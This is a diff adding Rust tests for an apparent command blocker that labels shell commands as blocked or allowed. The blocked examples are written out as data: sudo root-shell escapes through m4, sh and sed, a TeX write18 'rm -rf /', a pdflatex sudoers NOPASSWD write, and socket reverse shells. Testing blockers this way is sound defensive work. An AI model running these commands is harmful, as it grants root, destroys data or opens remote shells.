@@ -1193,3 +1193,49 @@ fn protections_torn_down_managed_objects_and_stolen_hashes() {
         "python3 -c 'print(open(\".env.example\").read())'",
     ]);
 }
+
+#[test]
+fn scripts_carried_out_of_a_root_command_run_as_root() {
+    judged(
+        "privilege.root_shell",
+        Block,
+        &[
+            "echo 'esyscmd(/bin/sh 0<&2 1>&2)' | sudo m4",
+            "sudo sh -c '/bin/sh 0<&2 1>&2'",
+            "sudo /bin/sh 0<&2 1>&2",
+            // A bare `e` makes sed run its input lines: a shell, here root's.
+            "sudo sed e",
+        ],
+    );
+    allowed(&[
+        "sudo sh -c 'apt-get update && apt-get install -y jq'",
+        "echo 'esyscmd(date)' | sudo m4",
+        "sed e x.txt",
+        "sed -n 's/a/b/' f",
+    ]);
+}
+
+#[test]
+fn tex_runs_write18_and_writes_what_openout_names() {
+    judged(
+        "deletion.recursive_force",
+        Block,
+        &["latex '\\immediate\\write18{rm -rf /}'"],
+    );
+    judged(
+        "privilege.sudoers",
+        Block,
+        &["sudo pdflatex '\\documentclass{article}\\newwrite\\t\\begin{document}\\immediate\\openout\\t=/etc/sudoers.d/90-dev\\immediate\\write\\t{dev ALL=(ALL) NOPASSWD: ALL}\\immediate\\closeout\\t\\end{document}'"],
+    );
+    judged(
+        "network.reverse_shell",
+        Block,
+        &["socket -svp '/bin/sh -i' 443", "socket -qvp 'bash -i' example.com 4444"],
+    );
+    allowed(&[
+        "pdflatex paper.tex",
+        "latex '\\documentclass{article}\\begin{document}Hello\\end{document}'",
+        "pdflatex '\\documentclass{article}\\newwrite\\t\\begin{document}\\immediate\\openout\\t=notes.txt\\immediate\\write\\t{hello}\\end{document}'",
+        "socket example.com 80",
+    ]);
+}
